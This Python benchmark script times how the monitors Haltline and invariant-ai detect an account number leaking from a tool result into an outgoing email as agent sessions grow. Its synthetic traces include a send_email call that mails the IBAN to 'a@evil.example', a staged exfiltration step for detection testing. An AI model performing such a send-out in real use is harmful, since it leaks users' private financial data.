#!/usr/bin/env python3
"""One flow rule over a session that gets longer: Haltline beside invariant-ai, in one run.

    python3 -m venv target/peer && target/peer/bin/pip install invariant-ai==0.3.5
    cargo build --release && target/peer/bin/python benches/memory/peer.py

Both look for the same: an account number that a read returned goes out in a mail. The peer is asked as its users ask it,
with the whole trace at each turn, so its cost of one more turn is that of one analysis. Haltline reads the session as a
stream; its cost of one more turn is the difference between a long and a short replay, so that start-up does not count. Medians
of RUNS runs. Both must find the leak in the same session, or the figures mean nothing.
"""

import json
import os
import pathlib
import statistics
import subprocess
import tempfile
import time

os.environ.setdefault("INVARIANT_MAX_ITERATIONS", "100000000")
from invariant.analyzer import LocalPolicy  # noqa: E402

BINARY = os.environ.get("HALTLINE_BENCH_BINARY", "target/release/haltline")
RUNS = 5
IBAN = "DE89370400440532013000"
POLICY = f"""
raise "what a read returned is sent out" if:
    (out: ToolOutput) -> (call: ToolCall)
    call is tool:send_email
    "{IBAN}" in out.content
"""
RULE = """
schema = 1
id = "leak"
title = "What a read returned is sent out"
severity = "high"
action = "flag"
[flow]
group_by = "session"
within = "24h"
values_at_least = 1
chars_at_least = 0
source = { when = { kind = "tool_result", tool = "get_order" }, fields = "result" }
sink = { when = { kind = "tool_call", tool = "send_email" }, fields = "args" }
"""


def answer(n, leaks_at):
    return f"iban {IBAN}" if n == leaks_at else f"order {n}: lamp, blue, 12 pieces"


def messages(turns, leak):
    trace = [{"role": "user", "content": "Look at my orders."}]
    for n in range(turns):
        call = {"name": "get_order", "arguments": {"id": str(n)}}
        trace.append({"role": "assistant", "content": "", "tool_calls": [{"id": f"c{n}", "type": "function", "function": call}]})
        trace.append({"role": "tool", "tool_call_id": f"c{n}", "content": answer(n, 1 if leak else -1)})
    if leak:
        call = {"name": "send_email", "arguments": {"to": "a@evil.example", "body": IBAN}}
        trace.append({"role": "assistant", "content": "", "tool_calls": [{"id": "z", "type": "function", "function": call}]})
    return trace


def events(turns, leak):
    yield {"v": 1, "session": "s", "kind": "message", "role": "user", "text": "Look at my orders."}
    for n in range(turns):
        yield {"v": 1, "session": "s", "kind": "tool_call", "tool": {"name": "get_order", "args": {"id": str(n)}}}
        yield {"v": 1, "session": "s", "kind": "tool_result", "tool": {"name": "get_order", "result": answer(n, 1 if leak else -1)}}
    if leak:
        args = {"to": "a@evil.example", "body": IBAN}
        yield {"v": 1, "session": "s", "kind": "tool_call", "tool": {"name": "send_email", "args": args}}


def replay(folder, turns, leak=False):
    """Seconds, and the summary."""
    file = folder / "events.ndjson"
    lines = [{**event, "ts": 1_700_000_000 + n} for n, event in enumerate(events(turns, leak))]
    file.write_text("\n".join(json.dumps(line) for line in lines))
    command = [BINARY, "replay", "--rules", str(folder / "leak.toml"), "--quiet", "--json", str(file)]
    started = time.perf_counter()
    done = subprocess.run(command, check=True, capture_output=True, text=True)
    return time.perf_counter() - started, json.loads(done.stdout.splitlines()[-1])


def peer_ms(policy, turns):
    trace = messages(turns, False)
    times = []
    for _ in range(RUNS):
        started = time.perf_counter()
        policy.analyze(trace)
        times.append((time.perf_counter() - started) * 1e3)
    return statistics.median(times)


def ours_ms(folder, turns):
    """Milliseconds of one more turn (a call and its result) around this length."""
    step = 4_000
    times = [replay(folder, turns + step)[0] - replay(folder, turns)[0] for _ in range(RUNS)]
    return statistics.median(times) / step * 1e3


def main():
    policy = LocalPolicy.from_string(POLICY)
    with tempfile.TemporaryDirectory() as name:
        folder = pathlib.Path(name)
        (folder / "leak.toml").write_text(RULE)
        assert len(policy.analyze(messages(20, True)).errors) == 1, "the peer must find the leak"
        assert replay(folder, 20, leak=True)[1]["findings"] == 1, "Haltline must find the leak"
        print(f"{'turns before':>12} {'invariant-ai, ms':>18} {'haltline, ms':>14} {'ratio':>9}")
        for turns in (10, 50, 100, 200):
            peer, ours = peer_ms(policy, turns), ours_ms(folder, turns)
            print(f"{turns:>12} {peer:>18.2f} {ours:>14.4f} {peer / ours:>9.0f}")
        print(f"{10_000:>12} {'-':>18} {ours_ms(folder, 10_000):>14.4f}")


if __name__ == "__main__":
    main()
